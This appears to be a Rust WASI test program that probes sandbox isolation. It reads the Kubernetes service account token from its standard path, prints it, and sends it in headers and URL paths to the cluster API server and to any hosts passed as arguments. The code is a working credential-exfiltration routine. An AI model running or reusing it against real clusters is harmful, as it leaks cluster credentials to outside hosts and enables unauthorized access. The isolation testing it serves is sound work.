//! Tries to read the token and to send it to the API server and to each address among its arguments.

use wasip2::http::outgoing_handler;
use wasip2::http::types::{Fields, Method, OutgoingRequest, Scheme};

fn main() {
    let token = std::fs::read_to_string("/var/run/secrets/kubernetes.io/serviceaccount/token").unwrap_or_default();
    println!("found {token}");
    let variable = |name: &str| std::env::var(name).unwrap_or_default();
    let server = format!("{}:{}", variable("KUBERNETES_SERVICE_HOST"), variable("KUBERNETES_SERVICE_PORT"));
    for authority in std::env::args().skip(1).chain([server]) {
        for (scheme, method) in [(Scheme::Https, Method::Get), (Scheme::Http, Method::Get), (Scheme::Https, Method::Post)] {
            let bearer = format!("Bearer {token}");
            for (header, value) in
                [("authorization", &*bearer), ("x-token", &*token), ("accept", &*token), ("user-agent", &*token)]
            {
                for path in ["/api/v1/namespaces/shop/pods".to_string(), format!("/api/v1/namespaces/{token}/pods?limit={token}")]
                {
                    let mut headers = vec![(header.to_string(), value.as_bytes().to_vec())];
                    if header != "authorization" {
                        headers.push(("authorization".into(), bearer.as_bytes().to_vec()));
                    }
                    println!("{authority} {scheme:?} {header}: {}", send(&authority, &scheme, &method, &path, &headers));
                }
            }
        }
    }
}

fn send(authority: &str, scheme: &Scheme, method: &Method, path: &str, headers: &[(String, Vec<u8>)]) -> String {
    let Ok(headers) = Fields::from_list(headers) else { return "no headers".into() };
    let request = OutgoingRequest::new(headers);
    let _ = request.set_method(method);
    let _ = request.set_scheme(Some(scheme));
    let _ = request.set_authority(Some(authority));
    let _ = request.set_path_with_query(Some(path));
    let answer = match outgoing_handler::handle(request, None) {
        Ok(answer) => answer,
        Err(code) => return format!("{code:?}"),
    };
    answer.subscribe().block();
    match answer.get() {
        Some(Ok(Ok(response))) => {
            let body = response.consume().ok();
            let stream = body.as_ref().and_then(|body| body.stream().ok());
            let mut text = Vec::new();
            while let Some(Ok(chunk)) = stream.as_ref().map(|stream| stream.blocking_read(1 << 16)) {
                text.extend(chunk);
            }
            format!("{} {}", response.status(), String::from_utf8_lossy(&text))
        }
        other => format!("{other:?}"),
    }
}
